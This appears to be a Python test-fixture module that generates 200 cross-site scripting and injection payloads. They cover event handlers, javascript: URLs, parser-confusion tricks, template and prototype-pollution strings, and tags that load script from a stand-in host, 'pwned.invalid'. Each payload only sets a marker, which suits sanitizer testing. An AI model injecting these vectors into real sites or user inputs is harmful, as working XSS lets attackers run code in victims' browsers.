"""Two hundred ways in which text becomes script, where somebody is careless.

Each leaves a mark when it works: it sets `window.__pwned`, opens a dialog, or asks a host that does
not exist for something.
"""

from itertools import islice, product

SCRIPTS = (
    "<script>window.__pwned=1</script>",
    "<script src=//pwned.invalid/x.js></script>",
    "<img src=x onerror=window.__pwned=1>",
    "<img src=//pwned.invalid/p.png>",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><use href=//pwned.invalid/u.svg#x></svg>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'>",
    "<iframe src=javascript:window.__pwned=1></iframe>",
    "<object data=//pwned.invalid/o></object>",
    "<embed src=//pwned.invalid/e>",
    "<body onload=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<audio src onerror=window.__pwned=1>",
    "<a href=javascript:window.__pwned=1 autofocus>x</a>",
    "<form action=//pwned.invalid/f><button>x</button></form>",
    "<base href=//pwned.invalid/>",
    "<link rel=stylesheet href=//pwned.invalid/s.css>",
    "<link rel=prefetch href=//pwned.invalid/l>",
    "<meta http-equiv=refresh content='0;url=//pwned.invalid/m'>",
    "<style>@import '//pwned.invalid/i.css';</style>",
    "<div style='background:url(//pwned.invalid/b.png)'>x</div>",
    "<math><mtext><mglyph><style><img src=x onerror=window.__pwned=1></style></mglyph></math>",
    "<noscript><p title='</noscript><img src=x onerror=window.__pwned=1>'>",
    "<template><script>window.__pwned=1</script></template>",
    "<marquee onstart=window.__pwned=1>x</marquee>",
    "<select autofocus onfocus=window.__pwned=1>",
    "<textarea autofocus onfocus=window.__pwned=1></textarea>",
    "<portal src=//pwned.invalid/r>",
    "javascript:window.__pwned=1",
    "data:text/html,<script>parent.__pwned=1</script>",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "{@html '<img src=x onerror=window.__pwned=1>'}",
    "<%= window.__pwned=1 %>",
    "![x](//pwned.invalid/md.png)",
    "[x](javascript:window.__pwned=1)",
)

WRAPPERS = (
    "{}",
    '"><{}',
    "</textarea></title></style></script>{}",
    '{{"__proto__": {{"__pwned": 1}}, "html": "{}"}}',
    "\u202e\u0000{}\u001b]8;;x\u0007",
)


def payloads() -> list[str]:
    """All of them, each different."""
    return [wrapper.format(script) for wrapper, script in islice(product(WRAPPERS, SCRIPTS), 200)]
